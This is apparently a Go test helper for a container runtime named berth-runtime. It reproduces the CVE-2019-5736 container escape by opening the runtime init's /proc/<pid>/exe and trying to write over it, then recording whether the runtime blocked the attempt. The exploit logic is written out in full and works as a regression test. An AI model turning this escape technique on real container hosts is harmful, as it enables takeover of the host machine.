// Command exeattack is the CVE-2019-5736 attacker of TestEscapeRuntimeBinary:
// it runs in a container, finds a berth-runtime init in its pid namespace,
// opens /proc/<pid>/exe, and once /go exists tries to write through it.
// Reports: /result1 ("opened" or "open: <error>"), /result2 ("written" or
// "write: <error>"). It never exits.
package main

import (
	"fmt"
	"os"
	"strings"
	"syscall"
	"time"
)

func main() {
	attack()
	// stay: as the pid namespace's init, our exit would kill every process
	// in it, the runtime's init included
	for {
		time.Sleep(time.Hour)
	}
}

func attack() {
	pid := findInit(20 * time.Second)
	if pid == "" {
		report("/result1", "open: no berth-runtime init found")
		return
	}
	// until init has dropped its capabilities to the container's (the
	// attacker's), it cannot be opened; init then waits for start
	const oPath = 0x200000 // O_PATH; not in package syscall
	var fd int
	var err error
	for end := time.Now().Add(3 * time.Second); ; time.Sleep(2 * time.Millisecond) {
		if fd, err = syscall.Open("/proc/"+pid+"/exe", oPath, 0); err == nil || time.Now().After(end) {
			break
		}
	}
	if err != nil {
		report("/result1", "open: "+err.Error())
		return
	}
	report("/result1", "opened")
	for end := time.Now().Add(20 * time.Second); time.Now().Before(end); time.Sleep(5 * time.Millisecond) {
		if _, err := os.Stat("/go"); err == nil {
			break
		}
	}
	w, err := syscall.Open(fmt.Sprintf("/proc/self/fd/%d", fd), syscall.O_WRONLY, 0)
	if err != nil {
		report("/result2", "write: "+err.Error())
		return
	}
	if _, err := syscall.Pwrite(w, []byte("PWNED"), 0); err != nil {
		report("/result2", "write: "+err.Error())
		return
	}
	report("/result2", "written")
}

// findInit returns the pid of a process whose argv[1] is "init" (berth-runtime
// init) other than ourselves.
func findInit(d time.Duration) string {
	self := fmt.Sprint(os.Getpid())
	for end := time.Now().Add(d); time.Now().Before(end); time.Sleep(2 * time.Millisecond) {
		entries, _ := os.ReadDir("/proc")
		for _, e := range entries {
			if e.Name() == self || e.Name() == "1" || strings.Trim(e.Name(), "0123456789") != "" {
				continue
			}
			b, err := os.ReadFile("/proc/" + e.Name() + "/cmdline")
			if args := strings.Split(string(b), "\x00"); err == nil && len(args) > 1 && args[1] == "init" {
				return e.Name()
			}
		}
	}
	return ""
}

func report(path, msg string) { os.WriteFile(path, []byte(msg+"\n"), 0o644) }
